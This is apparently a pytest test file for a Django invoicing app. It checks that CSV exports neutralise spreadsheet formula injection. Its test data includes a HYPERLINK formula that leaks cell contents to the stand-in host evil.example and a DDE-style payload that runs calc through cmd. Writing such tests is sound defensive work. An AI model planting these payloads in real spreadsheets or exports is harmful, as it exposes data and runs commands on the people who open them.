"""CSV exports opened in a spreadsheet run no formula from the data (CSV injection)."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from invoicing.models.invoice import Status
from syaga.core.csv import csv_safe
from tests.factories import ClientFactory, UserFactory, make_invoice

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Taux horaire erroné", "Taux horaire erroné"),
        ("a=b", "a=b"),
        ("", ""),
        # numbers stay numbers, negative ones included (credit notes), as values or as stored text
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        ("-12.50", "-12.50"),
        ("+12,50", "+12,50"),
        (None, None),
    ],
)
def test_csv_safe_neutralises_formula_text_only(cell, written):
    assert csv_safe(cell) == written


@pytest.mark.django_db
def test_the_audit_export_runs_no_formula_from_a_reason_or_a_client_name(client, seller):
    # given: a client whose name looks like a formula, and a rejection whose reason is a formula
    approver = UserFactory(username="valideur")
    approver.user_permissions.add(
        *Permission.objects.filter(codename__in=["approve_invoice", "view_invoice", "change_invoice"])
    )
    client.force_login(approver)
    invoice = make_invoice(
        client=ClientFactory(name="@SUM(1+1) SAS"), amounts=(Decimal("100.00"),), status=Status.PENDING_REVIEW
    )
    queue = reverse("admin:invoicing_invoicetoreview_changelist")
    client.post(
        queue,
        {"action": "reject_selected", "_selected_action": [invoice.pk], "post": "yes", "reason": HYPERLINK},
    )
    invoice.refresh_from_db()
    assert invoice.status == Status.REJECTED
    # when: the audit trail is exported
    response = client.get(reverse("admin:invoicing_invoicetoreview_audit_csv") + f"?invoice={invoice.pk}")
    rows = list(
        csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";")
    )
    # then: the formula is shown as text, the client too, and the totals are still numbers
    rejected = next(row for row in rows[1:] if row[5] == "rejetée")
    assert rejected[9] == "'" + HYPERLINK
    assert rejected[2] == "'@SUM(1+1) SAS"
    assert rejected[10:] == ["100,00", "20,00", "120,00"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
